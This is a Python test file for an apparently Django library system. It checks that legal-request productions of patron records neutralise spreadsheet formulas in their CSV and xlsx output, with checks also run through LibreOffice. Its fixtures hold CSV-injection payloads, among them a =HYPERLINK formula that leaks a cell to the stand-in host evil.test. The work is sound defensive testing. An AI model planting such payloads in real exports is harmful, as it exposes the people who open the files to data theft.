"""A production handed to an agency never runs as formulas: records whose
text is formula-shaped (a patron named ``=HYPERLINK(...)``) come out as
that exact text, in CSV files whose cells no spreadsheet evaluates and in a
workbook whose cells are all text; the manifest and byte-identity hold."""

from __future__ import annotations

import csv
import datetime
import hashlib
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.core.files.storage import default_storage
from django.utils import timezone

from circulation.models import Fee, Hold
from kernel.tabular import FORMULA_STARTS, MARKER, restore
from legal import services
from privacy import disclosure
from privacy.disclosure import DisclosedLine
from tests import factories
from tests.legal.conftest import open_request
from tests.libreoffice import CSV_IMPORT_EVALUATING, Soffice, ods_sheets, soffice

pytestmark = pytest.mark.django_db
__all__ = ["soffice"]  # the fixture, used by the LibreOffice tests below

START = datetime.date(2026, 3, 1)
END = datetime.date(2026, 3, 31)
LEAK = '=HYPERLINK("http://evil.test/?leak="&B2,"Click")'
# Each text field of a registration that reaches the production.
REGISTRATION = {
    "first_name": LEAK,
    "last_name": "+1+1",
    "email": "＝1+1@evil.test",
    "phone": "=1+1",
    "address_line": "-2+3",
    "city": "@SUM(A1)",
    "postal_code": "\t=1",
}
TITLES = {
    "current_loans": "=1+1",
    "loan_history": "@SUM(A1)",
    "holds": "-2+3",
    "program_attendance": LEAK,
}
NOTES = [LEAK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=1+1", " =1+1", "'quoted already"]
RECORD_TYPES = [
    "registration",
    "current_loans",
    "loan_history",
    "holds",
    "fees",
    "program_attendance",
    "reference",
]
CSV_FILES = [
    "01-registration.csv",
    "02-current_loans.csv",
    "03-loan_history.csv",
    "04-holds.csv",
    "05-fees.csv",
    "06-program_attendance.csv",
    "07-reference.csv",
]


def at(d: datetime.date, hour: int = 12) -> datetime.datetime:
    return timezone.make_aware(datetime.datetime.combine(d, datetime.time(hour)))


@pytest.fixture
def notes_provider():
    """Notes kept by another app, every one formula-shaped. Stands in for
    the desk's provider for the test, then puts it back."""
    previous = disclosure.PROVIDERS.pop("reference", None)

    @disclosure.provides("reference")
    def notes(patron, limit):
        return [
            DisclosedLine(when=at(START + datetime.timedelta(days=n)), text=text)
            for n, text in enumerate(NOTES)
        ]

    yield
    disclosure.withdraw("reference")
    if previous is not None:
        disclosure.PROVIDERS["reference"] = previous


@pytest.fixture
def production(ny_branch, desk_staff, director, notes_provider):
    """A production of every record type for a patron whose every text
    field, item title and note is formula-shaped."""
    from programs.models import Program, ProgramSignup

    patron = factories.PatronFactory(home_branch=ny_branch, **REGISTRATION)
    factories.CardFactory(patron=patron)

    def item(record_type):
        return factories.ItemFactory(home_branch=ny_branch, title=TITLES[record_type])

    when = at(datetime.date(2026, 3, 10))
    factories.LoanFactory(patron=patron, checked_out_at=when, item=item("current_loans"))
    returned = factories.LoanFactory(
        patron=patron,
        checked_out_at=when,
        returned_at=when + datetime.timedelta(hours=1),
        item=item("loan_history"),
    )
    factories.HoldFactory(
        patron=patron, placed_at=when, item=item("holds"), status=Hold.Status.FULFILLED
    )
    factories.FeeFactory(patron=patron, created_at=when, loan=returned, status=Fee.Status.OPEN)
    program = Program.objects.create(
        branch=ny_branch,
        title=TITLES["program_attendance"],
        starts_at=when,
        ends_at=when + datetime.timedelta(hours=1),
        capacity=5,
    )
    ProgramSignup.objects.create(
        program=program, branch=ny_branch, patron=patron, status=ProgramSignup.Status.CONFIRMED
    )
    request = open_request(staff=desk_staff, patron=patron, branch=ny_branch)
    services.legal_scope_set(
        request=request,
        acting_user=director,
        patrons=[patron],
        record_types=RECORD_TYPES,
        starts_on=START,
        ends_on=END,
    )
    # A subpoena waits for counsel (DESIGN section 8).
    services.legal_counsel_note(request=request, acting_user=director, note="Valid subpoena.")
    made = services.production_request(request=request, acting_user=director)
    return services.production_build(production_id=made.pk)


def files_of(production) -> dict[str, bytes]:
    return {f.name: default_storage.open(f.file.name).read() for f in production.files.all()}


def table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def could_run(text: str) -> bool:
    """Whether a spreadsheet could take this cell for a formula, even after
    trimming leading spaces."""
    return text[:1] in FORMULA_STARTS or text.lstrip()[:1] in FORMULA_STARTS


def exact_texts(files: dict[str, bytes]) -> dict[str, list[list[str]]]:
    """Each CSV file's cells with the added apostrophes taken off, as the
    cover letter says."""
    return {
        name: [[restore(cell) for cell in row] for row in table(files[name])] for name in CSV_FILES
    }


def expected_texts() -> dict[str, set[str]]:
    """The formula-shaped texts each file must carry, exactly."""
    return {
        "01-registration.csv": set(REGISTRATION.values()),
        "02-current_loans.csv": {TITLES["current_loans"]},
        "03-loan_history.csv": {TITLES["loan_history"]},
        "04-holds.csv": {TITLES["holds"]},
        "06-program_attendance.csv": {
            TITLES["program_attendance"] + " at Main Branch: has a place"
        },
        "07-reference.csv": set(NOTES),
    }


def test_no_cell_of_a_production_csv_can_run_as_a_formula(production):
    files = files_of(production)
    for name in [*CSV_FILES, "manifest.csv"]:
        for row in table(files[name]):
            assert [cell for cell in row if could_run(cell)] == [], name


def test_the_csv_files_keep_the_exact_text_behind_one_apostrophe(production):
    files = files_of(production)
    registration = dict(zip(*table(files["01-registration.csv"]), strict=True))
    for field, text in REGISTRATION.items():
        column = "address" if field == "address_line" else field
        assert registration[column] == MARKER + text
    texts = exact_texts(files)
    for name, wanted in expected_texts().items():
        found = {cell for row in texts[name] for cell in row}
        assert wanted <= found, name
    notes = [row[2] for row in table(files["07-reference.csv"])[1:]]
    # Only the cells a spreadsheet could evaluate (and the one that starts
    # with an apostrophe itself) carry the marker.
    assert notes == [MARKER + text for text in NOTES]


def test_the_workbook_holds_every_record_as_text_and_never_a_formula(production):
    files = files_of(production)
    assert sorted(files) == sorted([*CSV_FILES, "cover-letter.txt", "manifest.csv", "records.xlsx"])
    sheets = xlsx_sheets(files["records.xlsx"])
    texts = exact_texts(files)
    assert list(sheets) == [name.removesuffix(".csv") for name in CSV_FILES]
    for name in CSV_FILES:
        assert sheets[name.removesuffix(".csv")] == texts[name], name


def test_the_cover_letter_says_how_to_open_the_files_and_what_the_apostrophe_means(
    production,
):
    letter = files_of(production)["cover-letter.txt"].decode()
    assert "01-registration.csv: 1 record (7 cells with the added apostrophe" in letter
    assert "07-reference.csv: 8 records (8 cells with the added apostrophe" in letter
    assert "05-fees.csv: 1 record\n" in letter
    assert "records.xlsx: the same records, one sheet per file above" in letter
    assert "The record's exact text is the\ncell without that first apostrophe" in letter
    assert '"Evaluate formulas" off' in letter


def test_the_manifest_is_right_and_a_second_production_is_byte_identical(production, director):
    files = files_of(production)
    manifest = {row[0]: row for row in table(files["manifest.csv"])[1:]}
    assert set(manifest) == set(files) - {"manifest.csv"}
    for name, (_file, rows, size, digest) in manifest.items():
        assert digest == hashlib.sha256(files[name]).hexdigest()
        assert int(size) == len(files[name])
        if name.endswith(".csv"):
            assert int(rows) == len(table(files[name])) - 1
    again = services.production_request(request=production.request, acting_user=director)
    assert files_of(services.production_build(production_id=again.pk)) == files


def xlsx_sheets(data: bytes) -> dict[str, list[list[str]]]:
    """The workbook's sheets as rows of text, read from its XML; fails on
    any cell that is not a shared string (a number, a formula...)."""
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    rel = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
    archive = zipfile.ZipFile(io.BytesIO(data))
    strings = [
        "".join(t.text or "" for t in si.iter(f"{main}t"))
        for si in ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
    ]
    targets = {
        r.get("Id"): r.get("Target")
        for r in ElementTree.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
    }
    sheets = {}
    for sheet in ElementTree.fromstring(archive.read("xl/workbook.xml")).iter(f"{main}sheet"):
        xml = ElementTree.fromstring(archive.read("xl/" + targets[sheet.get(f"{rel}id")]))
        rows = []
        for row in xml.iter(f"{main}row"):
            cells = []
            for c in row.iter(f"{main}c"):
                assert c.find(f"{main}f") is None, "a formula"
                value = c.find(f"{main}v")
                if value is None:
                    cells.append("")
                    continue
                assert c.get("t") == "s", f"cell {c.get('r')} is not text"
                cells.append(strings[int(value.text or "")])
            rows.append(cells)
        sheets[sheet.get("name")] = rows
    return sheets


# ----------------------------------------------- opened by LibreOffice itself


def _saved(files: dict[str, bytes], folder: Path) -> dict[str, Path]:
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return {name: folder / name for name in files}


@pytest.mark.libreoffice
def test_libreoffice_evaluating_formulas_finds_none_in_the_csv_files(
    production, soffice: Soffice, tmp_path
):
    files = files_of(production)
    paths = _saved(files, tmp_path / "production")
    # The same pipeline does evaluate a formula that is not neutralised,
    # so finding none below means something.
    control = tmp_path / "control" / "control.csv"
    control.parent.mkdir()
    control.write_bytes(b"a,b\r\n=1+1,x\r\n")
    opened = ods_sheets(soffice.convert(control, "ods", infilter=CSV_IMPORT_EVALUATING))
    assert next(iter(opened.values()))[1][0].formula == "of:=1+1"

    converted = soffice.convert_all(
        [paths[name] for name in CSV_FILES], "ods", infilter=CSV_IMPORT_EVALUATING
    )
    for name, path in zip(CSV_FILES, converted, strict=True):
        (rows,) = ods_sheets(path).values()
        assert [c for row in rows for c in row if c.formula] == [], name
        # Every formula-shaped text is a text cell, the marker in front.
        texts = {c.text for row in rows for c in row if c.value_type == "string"}
        for text in expected_texts().get(name, set()):
            assert MARKER + text in texts, (name, text)


@pytest.mark.libreoffice
def test_libreoffice_reads_the_workbook_as_the_exact_text_of_every_record(
    production, soffice: Soffice, tmp_path
):
    files = files_of(production)
    paths = _saved(files, tmp_path / "production")
    opened = ods_sheets(soffice.convert(paths["records.xlsx"], "ods"))
    texts = exact_texts(files)
    assert list(opened) == [name.removesuffix(".csv") for name in CSV_FILES]
    for name in CSV_FILES:
        rows = opened[name.removesuffix(".csv")]
        assert [c for row in rows for c in row if c.formula] == [], name
        assert {c.value_type for row in rows for c in row} <= {"string", None}, name
        assert [[c.text for c in row] for row in rows] == [
            # Empty trailing cells are not cells to LibreOffice.
            _without_trailing_blanks(row)
            for row in texts[name]
        ], name


def _without_trailing_blanks(row: list[str]) -> list[str]:
    row = list(row)
    while row and row[-1] == "":
        row.pop()
    return row
